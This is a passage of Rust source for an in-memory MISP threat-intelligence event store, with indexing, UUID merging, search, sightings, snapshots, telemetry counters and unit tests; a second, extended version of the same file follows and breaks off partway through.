    events_inserted: Counter,
    attributes_written: Counter,
    tags_written: Counter,
    events_published: Counter,
    sightings: Counter,
}

impl StoreMetrics {
    fn new(registry: &Registry) -> Self {
        StoreMetrics {
            events_inserted: registry.counter("misp_events_inserted_total"),
            attributes_written: registry.counter("misp_attributes_written_total"),
            tags_written: registry.counter("misp_tags_written_total"),
            events_published: registry.counter("misp_events_published_total"),
            sightings: registry.counter("misp_sightings_total"),
        }
    }
}

/// One sighting of an attribute value: somebody (a sensor, an analyst,
/// a partner) confirmed seeing the value in the wild. MISP exposes the
/// same concept through its `/sightings` API; the paper's Timeliness
/// criterion asks exactly this question ("is a detected event related
/// to an already detected one").
#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct EventSighting {
    /// The event whose attribute was sighted.
    pub event_id: u64,
    /// Who reported the sighting.
    pub source: String,
    /// When it was seen.
    pub seen_at: Timestamp,
}

/// Search filters for [`MispStore::search`]. Empty fields do not
/// constrain.
#[derive(Debug, Clone, Default)]
pub struct SearchQuery {
    /// Exact attribute type (`ip-dst`).
    pub attr_type: Option<String>,
    /// Case-insensitive substring of the attribute value.
    pub value_contains: Option<String>,
    /// Exact event-level tag name.
    pub tag: Option<String>,
    /// Only events dated at or after this instant.
    pub since: Option<Timestamp>,
    /// Only published events.
    pub published_only: bool,
}

/// A thread-safe, indexed store of MISP events.
///
/// Maintains secondary indexes by event UUID and by normalized attribute
/// value (the correlation index).
#[derive(Debug, Default)]
pub struct MispStore {
    events: RwLock<HashMap<u64, MispEvent>>,
    by_uuid: RwLock<HashMap<Uuid, u64>>,
    by_value: RwLock<HashMap<String, Vec<u64>>>,
    sightings: RwLock<HashMap<String, Vec<EventSighting>>>,
    next_id: AtomicU64,
    metrics: RwLock<Option<StoreMetrics>>,
}

impl MispStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        MispStore {
            next_id: AtomicU64::new(1),
            ..MispStore::default()
        }
    }

    /// Attaches telemetry: mutations record outcome-level counters
    /// (`misp_events_inserted_total`, `misp_attributes_written_total`,
    /// `misp_tags_written_total`, `misp_events_published_total`,
    /// `misp_sightings_total`) into the registry. Deltas, not call
    /// counts — an insert of a fully-built event and an insert-then-
    /// update sequence ending in the same event report identically.
    pub fn instrument(&self, registry: &Registry) {
        *self.metrics.write() = Some(StoreMetrics::new(registry));
    }

    /// Inserts an event, assigning its store id. Attributes are
    /// validated; an invalid attribute rejects the whole event (MISP
    /// behaves the same on API add).
    ///
    /// # Errors
    ///
    /// Returns attribute-validation errors.
    pub fn insert(&self, mut event: MispEvent) -> Result<u64, MispError> {
        for attribute in &event.attributes {
            attribute.validate()?;
        }
        let id = self.next_id.fetch_add(1, Ordering::Relaxed);
        event.id = id;
        self.by_uuid.write().insert(event.uuid, id);
        {
            let mut by_value = self.by_value.write();
            for attribute in &event.attributes {
                by_value
                    .entry(attribute.correlation_key())
                    .or_default()
                    .push(id);
            }
        }
        if let Some(metrics) = self.metrics.read().as_ref() {
            metrics.events_inserted.inc();
            metrics
                .attributes_written
                .add(event.attributes.len() as u64);
            metrics.tags_written.add(event.tags.len() as u64);
            if event.published {
                metrics.events_published.inc();
            }
        }
        self.events.write().insert(id, event);
        Ok(id)
    }

    /// Fetches an event by id.
    pub fn get(&self, id: u64) -> Option<MispEvent> {
        self.events.read().get(&id).cloned()
    }

    /// The id the next inserted event will receive. With inserts
    /// serialized by the caller, ids are predictable as
    /// `peek_next_id() + k` for the k-th insert — the parallel
    /// ingestion pipeline uses this to pre-assign event ids (and
    /// pre-serialize their announcements) in worker threads.
    pub fn peek_next_id(&self) -> u64 {
        self.next_id.load(Ordering::Relaxed)
    }

    /// Applies a read-only closure to an event in place, without
    /// cloning it out of the store (used to serialize bus
    /// announcements cheaply).
    pub fn with_event<R>(&self, id: u64, f: impl FnOnce(&MispEvent) -> R) -> Option<R> {
        self.events.read().get(&id).map(f)
    }

    /// Fetches an event by UUID.
    pub fn get_by_uuid(&self, uuid: &Uuid) -> Option<MispEvent> {
        let id = *self.by_uuid.read().get(uuid)?;
        self.get(id)
    }

    /// Applies a closure to an event in place (used for enrichment).
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] for unknown ids.
    pub fn update<F: FnOnce(&mut MispEvent)>(&self, id: u64, f: F) -> Result<(), MispError> {
        let mut events = self.events.write();
        let event = events
            .get_mut(&id)
            .ok_or(MispError::EventNotFound { event_id: id })?;
        let before: Vec<String> = event
            .attributes
            .iter()
            .map(MispAttribute::correlation_key)
            .collect();
        let tags_before = event.tags.len();
        let was_published = event.published;
        f(event);
        event.timestamp = Timestamp::now().max(event.timestamp);
        if let Some(metrics) = self.metrics.read().as_ref() {
            metrics
                .attributes_written
                .add(event.attributes.len().saturating_sub(before.len()) as u64);
            metrics
                .tags_written
                .add(event.tags.len().saturating_sub(tags_before) as u64);
            if event.published && !was_published {
                metrics.events_published.inc();
            }
        }
        // Refresh the value index for any attributes the closure added.
        let mut by_value = self.by_value.write();
        for attribute in &event.attributes {
            let key = attribute.correlation_key();
            if !before.contains(&key) {
                let ids = by_value.entry(key).or_default();
                if !ids.contains(&id) {
                    ids.push(id);
                }
            }
        }
        Ok(())
    }

    /// Marks an event published.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] for unknown ids.
    pub fn publish(&self, id: u64) -> Result<MispEvent, MispError> {
        self.update(id, |event| event.published = true)?;
        Ok(self.get(id).expect("updated event exists"))
    }

    /// Event ids whose attributes carry exactly this normalized value.
    pub fn events_with_value(&self, value: &str) -> Vec<u64> {
        self.by_value
            .read()
            .get(&value.trim().to_ascii_lowercase())
            .cloned()
            .unwrap_or_default()
    }

    /// Runs a filtered search, returning matching events.
    pub fn search(&self, query: &SearchQuery) -> Vec<MispEvent> {
        let events = self.events.read();
        let mut out: Vec<MispEvent> = events
            .values()
            .filter(|event| {
                if query.published_only && !event.published {
                    return false;
                }
                if let Some(since) = query.since {
                    if event.date < since {
                        return false;
                    }
                }
                if let Some(tag) = &query.tag {
                    if !event.tags.iter().any(|t| t.name() == tag) {
                        return false;
                    }
                }
                if let Some(attr_type) = &query.attr_type {
                    if !event.attributes.iter().any(|a| a.attr_type == *attr_type) {
                        return false;
                    }
                }
                if let Some(needle) = &query.value_contains {
                    let needle = needle.to_ascii_lowercase();
                    if !event
                        .attributes
                        .iter()
                        .any(|a| a.value.to_ascii_lowercase().contains(&needle))
                    {
                        return false;
                    }
                }
                true
            })
            .cloned()
            .collect();
        out.sort_by_key(|e| e.id);
        out
    }

    /// Total stored events.
    pub fn len(&self) -> usize {
        self.events.read().len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.events.read().is_empty()
    }

    /// Records a sighting of an attribute value against an event.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] when the event does not
    /// exist, and [`MispError::InvalidAttributeValue`] when no attribute
    /// of the event carries the value.
    pub fn add_sighting(
        &self,
        event_id: u64,
        value: &str,
        source: impl Into<String>,
        seen_at: Timestamp,
    ) -> Result<(), MispError> {
        let key = value.trim().to_ascii_lowercase();
        {
            let events = self.events.read();
            let event = events
                .get(&event_id)
                .ok_or(MispError::EventNotFound { event_id })?;
            if !event.attributes.iter().any(|a| a.correlation_key() == key) {
                return Err(MispError::InvalidAttributeValue {
                    attr_type: "sighting".to_owned(),
                    value: value.to_owned(),
                });
            }
        }
        self.sightings
            .write()
            .entry(key)
            .or_default()
            .push(EventSighting {
                event_id,
                source: source.into(),
                seen_at,
            });
        if let Some(metrics) = self.metrics.read().as_ref() {
            metrics.sightings.inc();
        }
        Ok(())
    }

    /// All sightings of a value, oldest first.
    pub fn sightings_of(&self, value: &str) -> Vec<EventSighting> {
        let mut out = self
            .sightings
            .read()
            .get(&value.trim().to_ascii_lowercase())
            .cloned()
            .unwrap_or_default();
        out.sort_by_key(|s| s.seen_at);
        out
    }

    /// Number of sightings of a value.
    pub fn sighting_count(&self, value: &str) -> usize {
        self.sightings
            .read()
            .get(&value.trim().to_ascii_lowercase())
            .map_or(0, Vec::len)
    }

    /// Snapshot of all events, ordered by id.
    pub fn all(&self) -> Vec<MispEvent> {
        let mut out: Vec<MispEvent> = self.events.read().values().cloned().collect();
        out.sort_by_key(|e| e.id);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::AttributeCategory;
    use crate::tag::Tag;

    fn event_with(value: &str) -> MispEvent {
        let mut event = MispEvent::new(format!("event for {value}"));
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            value,
        ));
        event
    }

    #[test]
    fn insert_assigns_sequential_ids() {
        let store = MispStore::new();
        let a = store.insert(event_with("a.example")).unwrap();
        let b = store.insert(event_with("b.example")).unwrap();
        assert_eq!((a, b), (1, 2));
        assert_eq!(store.len(), 2);
    }

    #[test]
    fn insert_rejects_invalid_attributes() {
        let store = MispStore::new();
        let mut event = MispEvent::new("bad");
        event.add_attribute(MispAttribute::new(
            "ip-dst",
            AttributeCategory::NetworkActivity,
            "not-an-ip",
        ));
        assert!(store.insert(event).is_err());
        assert!(store.is_empty());
    }

    #[test]
    fn uuid_lookup() {
        let store = MispStore::new();
        let event = event_with("a.example");
        let uuid = event.uuid;
        let id = store.insert(event).unwrap();
        assert_eq!(store.get_by_uuid(&uuid).unwrap().id, id);
        assert!(store.get_by_uuid(&Uuid::new_v4()).is_none());
    }

    #[test]
    fn value_index_and_update() {
        let store = MispStore::new();
        let id = store.insert(event_with("shared.example")).unwrap();
        assert_eq!(store.events_with_value("SHARED.example"), vec![id]);
        // Add another attribute via update; the index must pick it up.
        store
            .update(id, |event| {
                event.add_attribute(MispAttribute::new(
                    "ip-dst",
                    AttributeCategory::NetworkActivity,
                    "203.0.113.9",
                ));
            })
            .unwrap();
        assert_eq!(store.events_with_value("203.0.113.9"), vec![id]);
    }

    #[test]
    fn update_unknown_event_errors() {
        let store = MispStore::new();
        assert!(matches!(
            store.update(42, |_| {}),
            Err(MispError::EventNotFound { event_id: 42 })
        ));
    }

    #[test]
    fn publish_flags_event() {
        let store = MispStore::new();
        let id = store.insert(event_with("a.example")).unwrap();
        assert!(!store.get(id).unwrap().published);
        let published = store.publish(id).unwrap();
        assert!(published.published);
    }

    #[test]
    fn search_filters_compose() {
        let store = MispStore::new();
        let mut tagged = event_with("tagged.example");
        tagged.add_tag(Tag::tlp_red());
        store.insert(tagged).unwrap();
        let plain_id = store.insert(event_with("plain.example")).unwrap();
        store.publish(plain_id).unwrap();

        let by_tag = store.search(&SearchQuery {
            tag: Some("tlp:red".into()),
            ..SearchQuery::default()
        });
        assert_eq!(by_tag.len(), 1);
        assert!(by_tag[0].info.contains("tagged"));

        let published = store.search(&SearchQuery {
            published_only: true,
            ..SearchQuery::default()
        });
        assert_eq!(published.len(), 1);
        assert_eq!(published[0].id, plain_id);

        let by_value = store.search(&SearchQuery {
            value_contains: Some("PLAIN".into()),
            ..SearchQuery::default()
        });
        assert_eq!(by_value.len(), 1);

        let none = store.search(&SearchQuery {
            attr_type: Some("sha256".into()),
            ..SearchQuery::default()
        });
        assert!(none.is_empty());
    }

    #[test]
    fn instrumented_store_counts_outcomes_not_calls() {
        use crate::tag::Tag;
        use cais_telemetry::Registry;

        // Path A: insert a bare event, then add the score attribute,
        // a tag and the published flag via updates.
        let registry_a = Registry::new();
        let store_a = MispStore::new();
        store_a.instrument(&registry_a);
        let id = store_a.insert(event_with("a.example")).unwrap();
        store_a
            .update(id, |event| {
                event.add_attribute(MispAttribute::new(
                    "ip-dst",
                    AttributeCategory::NetworkActivity,
                    "203.0.113.9",
                ));
                event.add_tag(Tag::tlp_red());
            })
            .unwrap();
        store_a.publish(id).unwrap();

        // Path B: insert the fully-built event once.
        let registry_b = Registry::new();
        let store_b = MispStore::new();
        store_b.instrument(&registry_b);
        let mut event = event_with("a.example");
        event.add_attribute(MispAttribute::new(
            "ip-dst",
            AttributeCategory::NetworkActivity,
            "203.0.113.9",
        ));
        event.add_tag(Tag::tlp_red());
        event.published = true;
        store_b.insert(event).unwrap();

        assert_eq!(
            registry_a.snapshot().counters,
            registry_b.snapshot().counters
        );
        let counters = registry_a.snapshot().counters;
        assert_eq!(counters["misp_events_inserted_total"], 1);
        assert_eq!(counters["misp_attributes_written_total"], 2);
        assert_eq!(counters["misp_tags_written_total"], 1);
        assert_eq!(counters["misp_events_published_total"], 1);
    }

    #[test]
    fn concurrent_inserts_get_unique_ids() {
        use std::sync::Arc;
        let store = Arc::new(MispStore::new());
        let mut handles = Vec::new();
        for t in 0..4 {
            let store = Arc::clone(&store);
            handles.push(std::thread::spawn(move || {
                for i in 0..50 {
                    store
                        .insert(event_with(&format!("t{t}-{i}.example")))
                        .unwrap();
                }
            }));
        }
        for handle in handles {
            handle.join().unwrap();
        }
        assert_eq!(store.len(), 200);
        let ids: std::collections::HashSet<u64> = store.all().iter().map(|e| e.id).collect();
        assert_eq!(ids.len(), 200);
    }
}

#[cfg(test)]
mod sighting_tests {
    use super::*;
    use crate::attribute::AttributeCategory;

    fn event_with(value: &str) -> MispEvent {
        let mut event = MispEvent::new("s");
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            value,
        ));
        event
    }

    #[test]
    fn sightings_accumulate_and_sort() {
        let store = MispStore::new();
        let id = store.insert(event_with("c2.threat.ru")).unwrap();
        store
            .add_sighting(
                id,
                "C2.THREAT.RU",
                "suricata",
                Timestamp::from_unix_secs(200),
            )
            .unwrap();
        store
            .add_sighting(
                id,
                "c2.threat.ru",
                "analyst",
                Timestamp::from_unix_secs(100),
            )
            .unwrap();
        assert_eq!(store.sighting_count("c2.threat.ru"), 2);
        let all = store.sightings_of("c2.threat.ru");
        assert_eq!(all[0].source, "analyst");
        assert_eq!(all[1].source, "suricata");
    }

    #[test]
    fn sighting_requires_matching_attribute() {
        let store = MispStore::new();
        let id = store.insert(event_with("c2.threat.ru")).unwrap();
        assert!(store
            .add_sighting(id, "other.value.ru", "x", Timestamp::EPOCH)
            .is_err());
        assert!(store
            .add_sighting(999, "c2.threat.ru", "x", Timestamp::EPOCH)
            .is_err());
        assert_eq!(store.sighting_count("other.value.ru"), 0);
    }
}
