//! The indexed in-memory event store — MISP's "relational database".
//!
//! Events live behind [`Arc`] so read paths (export, sync, correlation,
//! dashboards) can take cheap reference-counted snapshots instead of
//! deep-cloning event bodies. Every event carries a monotonically
//! increasing *version* (bumped on each [`MispStore::update`]) and the
//! store carries a *generation* (bumped on every mutation); together
//! they key the incremental export cache in [`crate::share`].

use std::collections::{BTreeMap, HashMap};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use cais_common::{Timestamp, Uuid};
use cais_telemetry::{Counter, Registry, TraceContext, Tracer};
use parking_lot::{Mutex, RwLock};

use crate::attribute::MispAttribute;
use crate::error::MispError;
use crate::event::MispEvent;

/// What [`MispStore::merge_by_uuid`] did with an incoming event copy.
///
/// The variants carry the store id of the event the copy landed on (or
/// confirmed), so callers can announce or trace the affected event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MergeOutcome {
    /// First delivery of this UUID: inserted as a new event.
    Inserted(u64),
    /// The UUID was known and the copy contributed something new
    /// (attributes, tags, a wider distribution, or a publish).
    Merged(u64),
    /// The UUID was known and the copy contributed nothing — the
    /// idempotent confirm of a replayed or re-delivered copy.
    Unchanged(u64),
}

impl MergeOutcome {
    /// The store id of the affected (or confirmed) event.
    pub fn event_id(&self) -> u64 {
        match self {
            MergeOutcome::Inserted(id) | MergeOutcome::Merged(id) | MergeOutcome::Unchanged(id) => {
                *id
            }
        }
    }
}

/// Cached telemetry handles for an instrumented store.
///
/// Counters are *outcome-level*: they track what ended up in the store
/// (events inserted, attributes/tags written, publish transitions),
/// not how many API calls produced it — so a path that pre-builds an
/// event and inserts it once reports exactly what a path that inserts
/// then updates does.
#[derive(Debug)]
struct StoreMetrics {
    events_inserted: Counter,
    attributes_written: Counter,
    tags_written: Counter,
    events_published: Counter,
    sightings: Counter,
}

impl StoreMetrics {
    fn new(registry: &Registry) -> Self {
        StoreMetrics {
            events_inserted: registry.counter("misp_events_inserted_total"),
            attributes_written: registry.counter("misp_attributes_written_total"),
            tags_written: registry.counter("misp_tags_written_total"),
            events_published: registry.counter("misp_events_published_total"),
            sightings: registry.counter("misp_sightings_total"),
        }
    }
}

/// One sighting of an attribute value: somebody (a sensor, an analyst,
/// a partner) confirmed seeing the value in the wild. MISP exposes the
/// same concept through its `/sightings` API; the paper's Timeliness
/// criterion asks exactly this question ("is a detected event related
/// to an already detected one").
#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct EventSighting {
    /// The event whose attribute was sighted.
    pub event_id: u64,
    /// Who reported the sighting.
    pub source: String,
    /// When it was seen.
    pub seen_at: Timestamp,
}

/// Search filters for [`MispStore::search`]. Empty fields do not
/// constrain.
#[derive(Debug, Clone, Default)]
pub struct SearchQuery {
    /// Exact attribute type (`ip-dst`).
    pub attr_type: Option<String>,
    /// Case-insensitive substring of the attribute value.
    pub value_contains: Option<String>,
    /// Exact event-level tag name.
    pub tag: Option<String>,
    /// Only events dated at or after this instant.
    pub since: Option<Timestamp>,
    /// Only published events.
    pub published_only: bool,
}

/// A pluggable index that can answer [`SearchQuery`] filters faster
/// than the store's linear scan. [`MispApi::search`] routes through an
/// attached backend when one is set; the contract is strict
/// equivalence — for any store state and query, the backend must
/// return exactly the `(event id, version)` pairs
/// [`MispStore::search_linear`] returns, in the same id order. The
/// `cais-search` crate's incremental inverted index implements this
/// and is property-tested against that contract under churn.
///
/// [`MispApi::search`]: crate::MispApi::search
pub trait SearchBackend: Send + Sync {
    /// Answers `query` over the store's current contents.
    fn search_query(&self, store: &MispStore, query: &SearchQuery) -> Vec<VersionedEvent>;
}

/// An event handle plus the version it carried when read. The version
/// bumps on every [`MispStore::update`], so `(event.uuid, version)`
/// uniquely identifies serialized bytes of the event body — the export
/// cache keys on exactly that pair.
#[derive(Debug, Clone)]
pub struct VersionedEvent {
    /// Shared, immutable view of the event body.
    pub event: Arc<MispEvent>,
    /// Mutation counter at read time (0 for a freshly inserted event).
    pub version: u64,
}

/// A consistent, id-ordered view of the store taken under one read
/// lock. Holding a snapshot keeps the event bodies alive via `Arc`
/// without blocking writers; a writer that mutates after the snapshot
/// copies-on-write and leaves the snapshot untouched.
#[derive(Debug, Clone, Default)]
pub struct StoreSnapshot {
    generation: u64,
    events: Vec<VersionedEvent>,
}

impl StoreSnapshot {
    /// Store generation at snapshot time. Any later mutation makes the
    /// live generation diverge, which is how generation-guarded caches
    /// detect staleness.
    pub fn generation(&self) -> u64 {
        self.generation
    }

    /// Events ordered by store id.
    pub fn events(&self) -> &[VersionedEvent] {
        &self.events
    }

    /// Iterates the snapshot in id order.
    pub fn iter(&self) -> std::slice::Iter<'_, VersionedEvent> {
        self.events.iter()
    }

    /// Number of events captured.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// Whether the snapshot captured no events.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }
}

impl<'a> IntoIterator for &'a StoreSnapshot {
    type Item = &'a VersionedEvent;
    type IntoIter = std::slice::Iter<'a, VersionedEvent>;

    fn into_iter(self) -> Self::IntoIter {
        self.events.iter()
    }
}

/// An event plus its mutation version, as kept inside the store map.
#[derive(Debug)]
struct Stored {
    event: Arc<MispEvent>,
    version: u64,
}

/// A thread-safe, indexed store of MISP events.
///
/// Maintains secondary indexes by event UUID and by normalized attribute
/// value (the correlation index).
#[derive(Debug, Default)]
pub struct MispStore {
    events: RwLock<HashMap<u64, Stored>>,
    by_uuid: RwLock<HashMap<Uuid, u64>>,
    by_value: RwLock<HashMap<String, Vec<u64>>>,
    sightings: RwLock<HashMap<String, Vec<EventSighting>>>,
    next_id: AtomicU64,
    /// Bumped (inside the events write lock) on every insert/update, so
    /// a snapshot's generation pins exactly one store content.
    generation: AtomicU64,
    /// Append-only mutation log: `(generation, event_id)` per
    /// insert/update, in generation order. This is what lets an
    /// incremental consumer (the decay rescorer) ask "what changed
    /// since generation G" in O(changed) instead of walking the store.
    /// Sixteen bytes per mutation, never truncated.
    changes: RwLock<Vec<(u64, u64)>>,
    /// Serializes [`MispStore::merge_by_uuid`] calls so two concurrent
    /// deliveries of the same UUID (e.g. two federation edges pushing
    /// the same event) cannot both take the insert path and duplicate
    /// it. Plain inserts mint fresh v4 UUIDs and never contend.
    merge_lock: Mutex<()>,
    metrics: RwLock<Option<StoreMetrics>>,
    tracer: RwLock<Option<Tracer>>,
}

impl MispStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        MispStore {
            next_id: AtomicU64::new(1),
            ..MispStore::default()
        }
    }

    /// Attaches telemetry: mutations record outcome-level counters
    /// (`misp_events_inserted_total`, `misp_attributes_written_total`,
    /// `misp_tags_written_total`, `misp_events_published_total`,
    /// `misp_sightings_total`) into the registry. Deltas, not call
    /// counts — an insert of a fully-built event and an insert-then-
    /// update sequence ending in the same event report identically.
    pub fn instrument(&self, registry: &Registry) {
        *self.metrics.write() = Some(StoreMetrics::new(registry));
    }

    /// Attaches a causal tracer: mutations record `store` spans
    /// (`store_insert`, `store_update`) and each insert links the
    /// event's UUID to its span, so downstream consumers (the share
    /// exporter, the TAXII server) chain their handling onto the same
    /// trace with [`Tracer::follow`].
    pub fn set_tracer(&self, tracer: &Tracer) {
        *self.tracer.write() = Some(tracer.clone());
    }

    fn tracer(&self) -> Option<Tracer> {
        self.tracer.read().clone()
    }

    /// Inserts an event, assigning its store id. Attributes are
    /// validated; an invalid attribute rejects the whole event (MISP
    /// behaves the same on API add).
    ///
    /// # Errors
    ///
    /// Returns attribute-validation errors.
    pub fn insert(&self, event: MispEvent) -> Result<u64, MispError> {
        self.insert_with_trace(event, None)
    }

    /// [`MispStore::insert`] recorded as a child of `parent` when a
    /// tracer is attached — the pipeline passes its ingest span here so
    /// the store mutation lands inside the ingress trace. The event's
    /// UUID is linked to the insert span for downstream
    /// [`Tracer::follow`] chaining.
    ///
    /// # Errors
    ///
    /// Returns attribute-validation errors.
    pub fn insert_with_trace(
        &self,
        mut event: MispEvent,
        parent: Option<TraceContext>,
    ) -> Result<u64, MispError> {
        let tracer = self.tracer();
        let mut span = tracer
            .as_ref()
            .map(|t| t.child_of(parent, "store", "store_insert"));
        for attribute in &event.attributes {
            attribute.validate()?;
        }
        if let (Some(t), Some(span)) = (tracer.as_ref(), span.as_ref()) {
            t.link(&event.uuid.to_string(), span.context());
        }
        let id = self.next_id.fetch_add(1, Ordering::Relaxed);
        event.id = id;
        self.by_uuid.write().insert(event.uuid, id);
        {
            let mut by_value = self.by_value.write();
            for attribute in &event.attributes {
                by_value
                    .entry(attribute.correlation_key())
                    .or_default()
                    .push(id);
            }
        }
        if let Some(metrics) = self.metrics.read().as_ref() {
            metrics.events_inserted.inc();
            metrics
                .attributes_written
                .add(event.attributes.len() as u64);
            metrics.tags_written.add(event.tags.len() as u64);
            if event.published {
                metrics.events_published.inc();
            }
        }
        let mut events = self.events.write();
        events.insert(
            id,
            Stored {
                event: Arc::new(event),
                version: 0,
            },
        );
        let generation = self.generation.fetch_add(1, Ordering::Release) + 1;
        self.changes.write().push((generation, id));
        if let Some(span) = span.as_mut() {
            span.field("event_id", id);
        }
        Ok(id)
    }

    /// UUID-atomic insert-or-merge — the apply half of every wire
    /// delivery (MISP sync push, federation push).
    ///
    /// The caller passes the event copy exactly as it should land,
    /// with the *arrival* distribution already computed for this hop.
    /// If the UUID is unknown the copy is inserted as-is. If it is
    /// known, the copy is *joined* into the stored event:
    ///
    /// * attributes are unioned by attribute UUID,
    /// * event tags are unioned,
    /// * the distribution is raised to `max(stored, incoming)` — never
    ///   lowered, so a re-delivered copy can never downgrade the hop
    ///   decay a second time,
    /// * `published` is set if the copy is published (never cleared).
    ///
    /// The join is monotone, commutative and idempotent, so any set of
    /// deliveries converges to the same stored event regardless of
    /// order, duplication (replay, lost acks) or interleaving. A copy
    /// contributing nothing returns [`MergeOutcome::Unchanged`] without
    /// bumping the event version or store generation.
    ///
    /// Calls are serialized on an internal lock so two concurrent
    /// deliveries of one UUID cannot both insert.
    ///
    /// # Errors
    ///
    /// Returns attribute-validation errors; an invalid attribute
    /// rejects the whole copy.
    pub fn merge_by_uuid(
        &self,
        incoming: MispEvent,
        parent: Option<TraceContext>,
    ) -> Result<MergeOutcome, MispError> {
        for attribute in &incoming.attributes {
            attribute.validate()?;
        }
        let _guard = self.merge_lock.lock();
        let existing_id = self.by_uuid.read().get(&incoming.uuid).copied();
        let Some(id) = existing_id else {
            let id = self.insert_with_trace(incoming, parent)?;
            return Ok(MergeOutcome::Inserted(id));
        };
        let current = self
            .get_arc(id)
            .ok_or(MispError::EventNotFound { event_id: id })?;
        let mut new_attributes: Vec<MispAttribute> = incoming
            .attributes
            .iter()
            .filter(|a| !current.attributes.iter().any(|e| e.uuid == a.uuid))
            .cloned()
            .collect();
        let new_tags: Vec<crate::tag::Tag> = incoming
            .tags
            .iter()
            .filter(|t| !current.tags.contains(t))
            .cloned()
            .collect();
        let raise_distribution = incoming.distribution > current.distribution;
        let set_published = incoming.published && !current.published;
        if new_attributes.is_empty() && new_tags.is_empty() && !raise_distribution && !set_published
        {
            return Ok(MergeOutcome::Unchanged(id));
        }
        let distribution = incoming.distribution;
        self.update(id, move |event| {
            event.attributes.append(&mut new_attributes);
            for tag in new_tags {
                event.add_tag(tag);
            }
            if raise_distribution {
                event.distribution = distribution;
            }
            if set_published {
                event.published = true;
            }
        })?;
        Ok(MergeOutcome::Merged(id))
    }

    /// Fetches an event by id, cloning the body. Compatibility shim:
    /// prefer [`MispStore::get_arc`] / [`MispStore::with_event`] on
    /// read paths that do not need ownership.
    pub fn get(&self, id: u64) -> Option<MispEvent> {
        self.events.read().get(&id).map(|s| (*s.event).clone())
    }

    /// Fetches a shared handle to an event by id without cloning the
    /// body.
    pub fn get_arc(&self, id: u64) -> Option<Arc<MispEvent>> {
        self.events.read().get(&id).map(|s| Arc::clone(&s.event))
    }

    /// Fetches an event handle plus its current version.
    pub fn versioned(&self, id: u64) -> Option<VersionedEvent> {
        self.events.read().get(&id).map(|s| VersionedEvent {
            event: Arc::clone(&s.event),
            version: s.version,
        })
    }

    /// Current mutation version of an event (0 until first update).
    pub fn event_version(&self, id: u64) -> Option<u64> {
        self.events.read().get(&id).map(|s| s.version)
    }

    /// Store generation: bumps on every insert/update. Caches keyed on
    /// a snapshot compare this to decide whether assembled output is
    /// still current.
    pub fn generation(&self) -> u64 {
        self.generation.load(Ordering::Acquire)
    }

    /// Takes a consistent, id-ordered snapshot of all events under one
    /// read lock. Event bodies are shared (`Arc`), not cloned.
    pub fn snapshot(&self) -> StoreSnapshot {
        let events = self.events.read();
        let generation = self.generation.load(Ordering::Acquire);
        let mut out: Vec<VersionedEvent> = events
            .values()
            .map(|s| VersionedEvent {
                event: Arc::clone(&s.event),
                version: s.version,
            })
            .collect();
        out.sort_by_key(|v| v.event.id);
        StoreSnapshot {
            generation,
            events: out,
        }
    }

    /// Visits every event in id order under one read lock, without
    /// cloning bodies or allocating handle vectors. The lock is held
    /// for the whole walk — keep `f` cheap and non-reentrant (calling
    /// back into the store deadlocks).
    pub fn for_each(&self, mut f: impl FnMut(&MispEvent)) {
        let events = self.events.read();
        let mut ids: Vec<u64> = events.keys().copied().collect();
        ids.sort_unstable();
        for id in ids {
            f(&events[&id].event);
        }
    }

    /// Visits every event in id order along with its current mutation
    /// version, under one read lock — the zero-allocation walk behind
    /// incremental rescoring: a consumer that remembers the version it
    /// last processed per event can skip unchanged bodies without
    /// taking a [`MispStore::snapshot`] (which clones a handle vector).
    /// The same caveats as [`MispStore::for_each`] apply: keep `f`
    /// cheap and never call back into the store.
    pub fn for_each_versioned(&self, mut f: impl FnMut(&MispEvent, u64)) {
        let events = self.events.read();
        let mut ids: Vec<u64> = events.keys().copied().collect();
        ids.sort_unstable();
        for id in ids {
            let stored = &events[&id];
            f(&stored.event, stored.version);
        }
    }

    /// Event ids mutated (inserted or updated) after `generation`, in
    /// ascending id order with duplicates collapsed — the incremental-
    /// rescore seam: a consumer that remembers the generation of its
    /// last pass gets back exactly the events it must re-derive, in
    /// O(changed), without walking the store. Returns `None` when the
    /// log cannot answer — the generation is ahead of this store (it
    /// came from a different store) or the log and generation counter
    /// disagree mid-write — and the caller should fall back to a full
    /// walk.
    pub fn changed_event_ids_since(&self, generation: u64) -> Option<Vec<u64>> {
        let changes = self.changes.read();
        let current = self.generation();
        if generation > current || changes.len() as u64 != current {
            return None;
        }
        let start = changes.partition_point(|&(g, _)| g <= generation);
        let mut ids: Vec<u64> = changes[start..].iter().map(|&(_, id)| id).collect();
        ids.sort_unstable();
        ids.dedup();
        Some(ids)
    }

    /// The id the next inserted event will receive. With inserts
    /// serialized by the caller, ids are predictable as
    /// `peek_next_id() + k` for the k-th insert — the parallel
    /// ingestion pipeline uses this to pre-assign event ids (and
    /// pre-serialize their announcements) in worker threads.
    pub fn peek_next_id(&self) -> u64 {
        self.next_id.load(Ordering::Relaxed)
    }

    /// Applies a read-only closure to an event in place, without
    /// cloning it out of the store (used to serialize bus
    /// announcements cheaply).
    pub fn with_event<R>(&self, id: u64, f: impl FnOnce(&MispEvent) -> R) -> Option<R> {
        self.events.read().get(&id).map(|s| f(&s.event))
    }

    /// Fetches an event by UUID.
    pub fn get_by_uuid(&self, uuid: &Uuid) -> Option<MispEvent> {
        let id = *self.by_uuid.read().get(uuid)?;
        self.get(id)
    }

    /// Whether an event with this UUID exists (no body clone).
    pub fn contains_uuid(&self, uuid: &Uuid) -> bool {
        self.by_uuid.read().contains_key(uuid)
    }

    /// Applies a closure to an event in place (used for enrichment).
